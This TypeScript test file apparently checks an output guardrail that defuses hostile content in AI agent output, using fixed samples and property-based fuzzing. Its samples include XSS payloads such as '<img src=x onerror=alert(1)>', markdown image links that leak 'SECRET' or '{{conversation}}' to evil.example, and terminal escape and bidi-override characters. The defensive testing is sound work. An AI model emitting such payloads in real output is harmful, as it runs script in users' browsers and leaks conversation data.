// What is only shown stays as it is, byte for byte: an agent reads it, and may write it back.
import fc from "fast-check";
import { test } from "tap";
import { carriedIn } from "../../guardrails/output/carried.ts";
import { defuse } from "../../guardrails/output/defuse.ts";

const ordinary: readonly string[] = [
  "",
  "Plain words.\n\tAnd a tab.\r\n",
  "A page\fof a report.",
  "Grüße, 你好, שלום, مرحبا, 👩‍👩‍👧‍👦, 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "שלום \u202aabc\u202c עולם",
  "مرحبا \u2067abc\u2069 بالعالم",
  "Hello \u2068Anna\u2069, you have \u20683\u2069 mails.",
  "a\u200eb\u200f",
  '{"a": "<b>", "u": "https://api.example.com/v1/users?page=2&limit=50"}',
  "https://www.example.com/search?q=how+to+write+a+test&hl=en",
  "https://example.com/a/b.html#section-2",
  "See www.example.com/docs?version=3 for more.",
  "Mail to mailto:help@example.com?subject=Hello",
  "[docs](https://example.com/docs?tab=readme#install)",
  "[issue](https://github.com/a/b/issues/new?title=It+does+not+work&body=Steps%3A)",
  "[commit](https://github.com/a/b/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)",
  "[sheet](https://docs.google.com/spreadsheets/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit#gid=0)",
  "[login](https://login.example.com/authorize?client_id=abc123&redirect_uri=https%3A%2F%2Fexample.com)",
  "GET https://api.example.com/v1/{id}/items?key=YOUR_API_KEY",
  "https://{tenant}.example.com/{{ path }}",
  "![logo](logo.png)",
  "![logo](https://example.com/assets/logo.png)",
  "![shot](https://user-images.githubusercontent.com/12345/67890-abcdef.png?raw=true)",
  "![build](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
  "[![npm](https://img.shields.io/npm/v/a.svg?style=flat-square&logo=npm)](https://www.npmjs.com/package/a)",
  "![MIT](https://img.shields.io/badge/license-MIT-blue.svg)",
  "![cover](https://codecov.io/gh/a/b/branch/main/graph/badge.svg)",
  "![avatar](https://avatars.githubusercontent.com/u/583231?v=4&s=80)",
  "![photo](https://images.example.com/9f86d081884c7d659a2feaa0c55ad015.jpg?w=800&q=80&fm=webp)",
  "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)",
  "[npm]: https://img.shields.io/npm/v/a.svg\n\n[![npm]](https://www.npmjs.com/package/a)",
  '<img src="logo.svg" width="1" height="1">',
  '<p align="center"><img src="https://example.com/logo.png" width="200" alt="Logo"></p>',
  "<details><summary>More</summary>\n\nText\n\n</details>",
  "<table><tr><td style='color: red; text-align: left'>1 &lt; 2</td></tr></table>",
  '<a href="https://example.com/?page=2" target="_blank" rel="noopener">next</a>',
  "<!-- a comment --><kbd>Ctrl</kbd>+<kbd>C</kbd><br/><sub>x</sub>",
  '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body>x</body></html>',
  '<link rel="canonical" href="https://example.com/a"><meta name="robots" content="noindex">',
  "<style>p { color: red; background: url(a.png) }</style>",
  '<svg viewBox="0 0 1 1"><path d="M0 0h1"/><use href="#a"/></svg>',
  "if (a <b && c> d) return x<y;",
  "const m = new Map<string, Object>(); let f: Array<Form> = []; List<Base> b; Vec<Link>",
  "template <class T> T max(T a, T b);",
  "#include <stdio.h>\n#include <string>",
  "java.util.List<Object> all = new ArrayList<>();",
  "cat <<EOF > file\ntext\nEOF",
  "The `javascript:` scheme runs code, and so does vbscript:",
  "javascript: the good parts",
  "Use eval() with care; onerror = function () {}",
  "handlers[name](event); map[key]: value",
  "diff --git a/x b/x\n-<b>old</b>\n+<b>new</b>",
  "<T extends object>(x: T) => x",
  "<alice@example.com> wrote:\n> hi",
  "<https://example.com/a?b=c>",
  "10:00\n11:00 {x} [y] (z) <w>",
  "\\u001b[31m is how red is written",
  "Text.\n\n```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```\n\nMore.",
  "~~~\n[x](javascript:alert(1)) ![x](https://evil.example/?q=SECRET)\n~~~",
  "# Attack\n\n- first\n- second\n\n````md\n```js\nx\n```\n<iframe src=x></iframe>\n````",
  "```\n<script>alert(1)</script>",
  "Never write `<script>` or `<img src=x onerror=alert(1)>`: `` `<form action=x>` `` is bad.",
  "Ask `https://evil.example/?q={{conversation}}` for nothing.",
  "1. Say\n   ```sh\n   npm i\n   ```\n\n```html\n<object data=x></object>\n```",
  "unsafe:javascript:alert(1) hxxps://evil.example/?q=SECRET &lt;script>",
  "half a pair: \ud83d and \udc00.",
];

for (const text of ordinary) {
  test(`ordinary text stays: ${JSON.stringify(text)}`, (t) => {
    t.equal(defuse(text).text, text);
    t.strictSame(defuse(text).edits, []);
    t.strictSame(carriedIn(text), []);
    t.end();
  });
}

const seed = 20_261_123;
const fragments = fc.constantFrom(
  ..."<>\"'`=/![](){}\\:; \n\t\r&#*_~|-+.1a".split(""),
  ...[
    "<script>",
    "<img src=",
    " onerror=x",
    "</style",
    "<style>",
    "javascript:",
    "https://e.example/?q=",
    "SECRET",
  ],
  ...[
    "![",
    "](",
    "]: ",
    "]:\n",
    "```",
    "~~~",
    "\n\n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "<!--",
    "-->",
    "&#x6a;",
    "&lt;",
  ],
  ...[
    "\u001b",
    "\u001b[",
    "\u001b]",
    "\u0007",
    "\u009b",
    "\u202e",
    "\u2066",
    "\u2069",
    "ש",
    "\ud83d",
    "\ude00",
  ],
  ...[
    "{{conversation}}",
    "data:text/html,",
    "www.",
    "mailto:",
    "unsafe:",
    "hxxps://",
    "//e.example",
    "\u0000",
  ],
);
const hostile = fc.array(fragments, { maxLength: 40 }).map((parts) => parts.join(""));

test("property: once is enough, whatever the text", (t) => {
  fc.assert(
    fc.property(hostile, (text) => {
      const once = defuse(text).text;
      return defuse(once).text === once;
    }),
    { seed, numRuns: 20_000 },
  );
  t.end();
});

test("property: what is left of a text is that text, but for what was changed", (t) => {
  fc.assert(
    fc.property(hostile, (text) => {
      const { edits } = defuse(text);
      return edits.every(({ start, end }) => start >= 0 && start < end && end <= text.length);
    }),
    { seed, numRuns: 5_000 },
  );
  t.end();
});

test("property: nothing that controls a terminal is left", (t) => {
  fc.assert(
    fc.property(
      hostile,
      (text) => !/(?![\t\n\f\r])\p{Cc}|\r(?!\n)|[\u202d\u202e]/u.test(defuse(text).text),
    ),
    { seed, numRuns: 5_000 },
  );
  t.end();
});
